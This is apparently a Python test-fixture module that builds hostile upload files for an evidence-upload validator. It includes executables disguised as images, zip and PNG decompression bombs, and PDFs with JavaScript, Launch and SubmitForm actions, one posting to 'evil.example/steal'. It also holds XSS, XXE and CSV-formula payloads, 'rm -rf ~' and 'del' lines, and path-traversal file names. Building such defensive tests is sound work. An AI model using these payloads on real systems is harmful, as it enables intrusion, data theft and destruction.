"""Hostile evidence files, built in memory at test time (no binary blobs in the repository).

`CASES` is a list of Case(name, make, expect): `make()` returns the bytes (built lazily: some are large),
`expect` is "refused" or "clean" (accepted only because re-encoding removes what was hostile in it;
`payload` then names bytes that must not survive in what is stored).
"""
from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Callable

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject)
from reportlab.pdfgen import canvas

MB = 1024 * 1024


@dataclass
class Case:
    name: str                      # the file name the browser sends
    make: Callable[[], bytes]
    expect: str = "refused"        # refused | clean
    what: str = ""                 # what the file is, for the summary
    payload: tuple[bytes, ...] = field(default_factory=tuple)


# ---- building blocks ----

def image_bytes(fmt: str = "JPEG", size=(64, 48), mode: str = "RGB", color=(200, 30, 40), **save) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color if mode in ("RGB", "RGBA", "CMYK") else 128).save(out, fmt, **save)
    return out.getvalue()


def noise_jpeg(size=(400, 300)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, "JPEG", quality=90)
    return out.getvalue()


def noise_png(size=(300, 300)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).save(out, "PNG")
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A 1-bit greyscale PNG of width x height zeros: tens of kilobytes on disk, 400 megapixels decoded."""
    row = b"\x00" + bytes((width + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row * 500) for _ in range(height // 500)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def png_declared(width: int, height: int) -> bytes:
    """A PNG header that declares a size its (tiny) data cannot fill."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", zlib.compress(b"\x00" * 64)) \
        + _chunk(b"IEND", b"")


def png_ztxt_bomb() -> bytes:
    """A small PNG with a zTXt chunk that inflates to 64 MB."""
    good = image_bytes("PNG", (16, 16))
    packer = zlib.compressobj(9)
    text = b"".join(packer.compress(bytes(MB)) for _ in range(64)) + packer.flush()
    ztxt = _chunk(b"zTXt", b"Comment\x00\x00" + text)
    return good[:33] + ztxt + good[33:]   # after the signature (8) and IHDR (25)


def png_bad_crc() -> bytes:
    data = bytearray(noise_png((64, 64)))
    idat = data.index(b"IDAT")
    data[idat + 10] ^= 0xFF
    return bytes(data)


def png_with_text(text: bytes) -> bytes:
    good = image_bytes("PNG", (32, 32))
    return good[:33] + _chunk(b"tEXt", b"Comment\x00" + text) + good[33:]


def jpeg_declared(width: int, height: int) -> bytes:
    """A real JPEG whose SOF marker is patched to declare width x height."""
    data = bytearray(image_bytes("JPEG", (16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_gps() -> bytes:
    """A JPEG carrying EXIF with a GPS position (Wat Rong Khun) and an orientation."""
    image = Image.new("RGB", (120, 80), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "HostileCam"          # Make
    exif[0x0112] = 6                     # Orientation: rotate 90
    gps = {1: "N", 2: (19.0, 49.0, 26.0), 3: "E", 4: (99.0, 45.0, 47.0)}
    exif[0x8825] = gps
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


def zip_bytes(files: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A zip of zip files of 100 MB of zeros each (a few hundred kilobytes)."""
    inner = zip_bytes({f"zeros{i}.bin": bytes(100 * MB) for i in range(1)})
    return zip_bytes({f"layer{i}.zip": inner for i in range(10)})


def docx() -> bytes:
    return zip_bytes({"[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
                      "word/document.xml": b"<w:document>report</w:document>"})


@lru_cache(maxsize=1)
def good_pdf(pages: int = 2) -> bytes:
    out = io.BytesIO()
    c = canvas.Canvas(out)
    for i in range(pages):
        c.drawString(72, 720, f"Evidence page {i + 1}")
        c.showPage()
    c.save()
    return out.getvalue()


def _name(n: str) -> NameObject:
    return NameObject(n)


def _dict(**items) -> DictionaryObject:
    return DictionaryObject({NameObject("/" + k): v for k, v in items.items()})


def pdf_with(change) -> bytes:
    """The good PDF, rewritten by pypdf after change(writer)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(good_pdf())))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _js_action(code: str = "app.alert('pwned');") -> DictionaryObject:
    return _dict(S=_name("/JavaScript"), JS=TextStringObject(code))


def pdf_open_action_js() -> bytes:
    return pdf_with(lambda w: w._root_object.__setitem__(_name("/OpenAction"), w._add_object(_js_action())))


def pdf_names_js() -> bytes:
    def change(w):
        tree = _dict(Names=ArrayObject([TextStringObject("x"), w._add_object(_js_action())]))
        w._root_object[_name("/Names")] = _dict(JavaScript=w._add_object(tree))
    return pdf_with(change)


def pdf_catalog_aa() -> bytes:
    return pdf_with(lambda w: w._root_object.__setitem__(
        _name("/AA"), _dict(WC=_dict(S=_name("/GoTo"), D=ArrayObject([NumberObject(0), _name("/Fit")])))))


def pdf_page_aa() -> bytes:
    def change(w):
        w.pages[0][_name("/AA")] = _dict(O=_js_action())
    return pdf_with(change)


def pdf_annotation_js() -> bytes:
    def change(w):
        annot = _dict(Type=_name("/Annot"), Subtype=_name("/Link"),
                      Rect=ArrayObject([NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(100)]),
                      A=_js_action())
        w.pages[0][_name("/Annots")] = ArrayObject([w._add_object(annot)])
    return pdf_with(change)


def pdf_escaped_js() -> bytes:
    """/J#53 is /JS spelled with a hex escape: the raw bytes never say /JS."""
    data = pdf_open_action_js()
    return data.replace(b"/JS ", b"/J#53 ").replace(b"/JavaScript", b"/J#61vaScript")


def pdf_launch() -> bytes:
    return pdf_with(lambda w: w._root_object.__setitem__(
        _name("/OpenAction"), w._add_object(_dict(S=_name("/Launch"), F=TextStringObject("cmd.exe")))))


def pdf_submit_form() -> bytes:
    return pdf_with(lambda w: w._root_object.__setitem__(
        _name("/OpenAction"), w._add_object(_dict(S=_name("/SubmitForm"),
                                                  F=TextStringObject("http://evil.example/steal")))))


def pdf_embedded() -> bytes:
    return pdf_with(lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00" + bytes(100)))


def pdf_xfa() -> bytes:
    return pdf_with(lambda w: w._root_object.__setitem__(
        _name("/AcroForm"), _dict(Fields=ArrayObject(), XFA=TextStringObject("<xdp:xdp/>"))))


def pdf_encrypted(user: str = "secret", owner: str = "owner") -> bytes:
    return pdf_with(lambda w: w.encrypt(user, owner))


def pdf_no_pages() -> bytes:
    return (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
            b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")


def pdf_html_polyglot() -> bytes:
    """A real PDF whose first comment line is an HTML page (a browser sniffing it would run the script)."""
    data = good_pdf()
    head, rest = data.split(b"\n", 1)
    return head + b"\n%<html><body><script>alert(document.cookie)</script></body></html>\n" + rest


def html_pdf_polyglot() -> bytes:
    """An HTML page with a %PDF- line further down: neither a clean PDF nor an image."""
    return b"<html><script>alert(1)</script>\n" + good_pdf()


def exe_pe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + b"PE\x00\x00L\x01" + bytes(400)


def exe_elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(500)


def lazy_big(head: bytes, size: int) -> Callable[[], bytes]:
    return lambda: head + bytes(size - len(head))


def _truncate(make, keep: float):
    def build():
        data = make()
        return data[:int(len(data) * keep)]
    return build


JS = b"alert(document.cookie)"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'

CASES: list[Case] = [
    # executables and scripts under image or PDF names
    Case("holiday.jpg", exe_pe, what="Windows executable (PE) named .jpg"),
    Case("report.pdf", exe_pe, what="Windows executable (PE) named .pdf"),
    Case("photo.png", exe_elf, what="Linux executable (ELF) named .png"),
    Case("scan.webp", lambda: b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(300), what="Mach-O executable named .webp"),
    Case("run.jpg", lambda: b"#!/bin/sh\nrm -rf ~\n", what="shell script named .jpg"),
    Case("setup.bat.pdf", lambda: b"@echo off\r\ndel /q C:\\*\r\n", what="batch file named .pdf"),
    Case("payload.jpg", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(200), what="Windows shortcut (.lnk) named .jpg"),
    # web content
    Case("cute-cat.jpg", lambda: HTML, what="HTML named .jpg"),
    Case("certificate.pdf", lambda: HTML, what="HTML named .pdf"),
    Case("logo.png", lambda: SVG, what="SVG with script named .png"),
    Case("diagram.svg", lambda: SVG, what="SVG with script"),
    Case("app.png", lambda: JS, what="JavaScript named .png"),
    Case("data.xml", lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
         what="XML with an external entity"),
    Case("page.html", lambda: HTML, what="HTML"),
    # other image formats (not accepted)
    Case("anim.gif", lambda: image_bytes("GIF", mode="P"), what="GIF"),
    Case("renamed-gif.jpg", lambda: image_bytes("GIF", mode="P"), what="GIF named .jpg"),
    Case("bitmap.bmp", lambda: image_bytes("BMP"), what="BMP"),
    Case("scan.tif", lambda: image_bytes("TIFF"), what="TIFF"),
    Case("scan-as.png", lambda: image_bytes("TIFF"), what="TIFF named .png"),
    Case("favicon.png", lambda: image_bytes("ICO", (32, 32)), what="ICO named .png"),
    Case("iphone.jpg", lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(200), what="HEIC header named .jpg"),
    Case("gifar.gif", lambda: image_bytes("GIF", mode="P") + zip_bytes({"a.class": b"\xca\xfe\xba\xbe"}), what="GIF+JAR polyglot"),
    # archives and documents
    Case("photos.jpg", lambda: zip_bytes({"a.jpg": image_bytes()}), what="zip named .jpg"),
    Case("annual-report.pdf", zip_bomb, what="zip bomb named .pdf"),
    Case("evidence.pdf", lambda: gzip.compress(bytes(50 * MB), 9), what="gzip bomb named .pdf"),
    Case("report.docx", docx, what="DOCX"),
    Case("report-docx.pdf", docx, what="DOCX named .pdf"),
    Case("archive.pdf", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(100), what="RAR named .pdf"),
    Case("archive.jpg", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100), what="7z named .jpg"),
    Case("clip.mp4", lambda: b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + bytes(300), what="MP4"),
    Case("clip.jpg", lambda: b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + bytes(300), what="MP4 named .jpg"),
    Case("sound.webp", lambda: b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(40), what="WAV (RIFF, not WebP) named .webp"),
    Case("notes.txt", lambda: "บันทึกกิจกรรมจิตอาสา\n".encode() * 20, what="text file"),
    Case("members.csv", lambda: "ชื่อ,จังหวัด\nสมชาย,เชียงราย\n=cmd|' /C calc'!A0,x\n".encode(), what="CSV with a formula"),
    Case("members.csv.jpg", lambda: b"name,province\nsomchai,chiang rai\n", what="CSV named .jpg"),
    # empty and nonsense
    Case("empty.jpg", lambda: b"", what="empty file named .jpg"),
    Case("empty.pdf", lambda: b"", what="empty file named .pdf"),
    Case("zeros.jpg", lambda: bytes(4096), what="null bytes"),
    Case("one-byte.png", lambda: b"\x89", what="one byte"),
    Case("magic-only.jpg", lambda: b"\xff\xd8\xff", what="JPEG magic only"),
    Case("magic-html.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML, what="JPEG magic followed by HTML"),
    Case("png-sig-only.png", lambda: b"\x89PNG\r\n\x1a\n", what="PNG signature only"),
    # broken images
    Case("truncated.jpg", _truncate(noise_jpeg, 0.5), what="truncated JPEG (half)"),
    Case("truncated-head.jpg", _truncate(noise_jpeg, 0.02), what="truncated JPEG (headers only)"),
    Case("truncated.png", _truncate(noise_png, 0.5), what="truncated PNG"),
    Case("bad-crc.png", png_bad_crc, what="PNG with a corrupt chunk"),
    Case("truncated.webp", _truncate(lambda: image_bytes("WEBP", (200, 200)), 0.5), what="truncated WebP"),
    # decompression bombs
    Case("bomb-20000.png", png_bomb, what="20,000 x 20,000 PNG (1-bit zeros)"),
    Case("bomb-65535.png", lambda: png_declared(65535, 65535), what="PNG declaring 65,535 x 65,535"),
    Case("very-wide.png", lambda: png_bomb(40_000, 500), what="PNG 40,000 px wide"),
    Case("bomb.jpg", lambda: jpeg_declared(60000, 60000), what="JPEG declaring 60,000 x 60,000"),
    Case("ztxt-bomb.png", png_ztxt_bomb, what="PNG with a 64 MB zTXt chunk"),
    # PDFs
    Case("encrypted.pdf", pdf_encrypted, what="encrypted PDF (user password)"),
    Case("owner-locked.pdf", lambda: pdf_encrypted(user=""), what="encrypted PDF (empty user password)"),
    Case("openaction-js.pdf", pdf_open_action_js, what="PDF with OpenAction JavaScript"),
    Case("names-js.pdf", pdf_names_js, what="PDF with a JavaScript name tree"),
    Case("catalog-aa.pdf", pdf_catalog_aa, what="PDF with /AA on the catalog"),
    Case("page-aa.pdf", pdf_page_aa, what="PDF with /AA on a page"),
    Case("link-js.pdf", pdf_annotation_js, what="PDF with a JavaScript link annotation"),
    Case("escaped-js.pdf", pdf_escaped_js, what="PDF with hex-escaped /JS"),
    Case("launch.pdf", pdf_launch, what="PDF with a Launch action"),
    Case("submit.pdf", pdf_submit_form, what="PDF with a SubmitForm action"),
    Case("attachment.pdf", pdf_embedded, what="PDF with an embedded file"),
    Case("xfa.pdf", pdf_xfa, what="PDF with an XFA form"),
    Case("truncated.pdf", _truncate(good_pdf, 0.6), what="truncated PDF"),
    Case("garbage.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n", what="PDF header + garbage"),
    Case("header-only.pdf", lambda: b"%PDF-1.7\n", what="PDF header only"),
    Case("no-pages.pdf", pdf_no_pages, what="PDF without pages"),
    Case("html-in-pdf.pdf", pdf_html_polyglot, what="PDF/HTML polyglot (HTML in the first bytes)"),
    Case("pdf-in-html.pdf", html_pdf_polyglot, what="HTML/PDF polyglot (HTML first)"),
    Case("mz-then-pdf.pdf", lambda: exe_pe() + good_pdf(), what="executable with a PDF appended"),
    # sizes (built only when tried)
    Case("huge-report.pdf", lazy_big(b"%PDF-1.7\n", 20 * MB + 1), what="PDF over 20 MB"),
    Case("huge-photo.jpg", lazy_big(b"\xff\xd8\xff\xe0", 10 * MB + 1), what="JPEG over 10 MB"),
    Case("huge.bin", lazy_big(b"\x00", 21 * MB), what="unknown file over 20 MB"),
    # hostile names (the content is hostile too)
    Case("../../../../etc/passwd.jpg", lambda: HTML, what="path traversal in the name"),
    Case("..\\..\\windows\\win.ini.png", lambda: HTML, what="Windows path traversal in the name"),
    Case("ภาพกิจกรรม" * 40 + ".jpg", exe_pe, what="a 400-character Thai name"),
    Case("a" * 1000 + ".pdf", exe_pe, what="a 1000-character name"),
    Case("photo\u202egpj.exe", exe_pe, what="right-to-left override in the name"),
    Case("evil\x00.jpg", exe_elf, what="null byte in the name"),
    Case("<script>alert(1)</script>.jpg", lambda: HTML, what="markup in the name"),
    # polyglots that re-encoding neutralizes: accepted, and what is stored is clean
    Case("jpeg-zip.jpg", lambda: noise_jpeg((120, 90)) + zip_bytes({"evil.exe": exe_pe()}), expect="clean",
         what="JPEG with a zip appended", payload=(b"PK\x03\x04", b"evil.exe")),
    Case("jpeg-html.jpg", lambda: noise_jpeg((120, 90)) + HTML, expect="clean",
         what="JPEG with HTML appended", payload=(b"<script", b"<html")),
    Case("png-text-script.png", lambda: png_with_text(HTML), expect="clean",
         what="PNG with a script in a text chunk", payload=(b"<script", b"tEXt")),
    Case("gps.jpg", jpeg_with_gps, expect="clean", what="JPEG with EXIF GPS", payload=(b"Exif", b"HostileCam")),
    Case("named-pdf-really-jpeg.pdf", lambda: noise_jpeg((100, 100)), expect="clean",
         what="a real JPEG named .pdf (content decides)", payload=()),
]
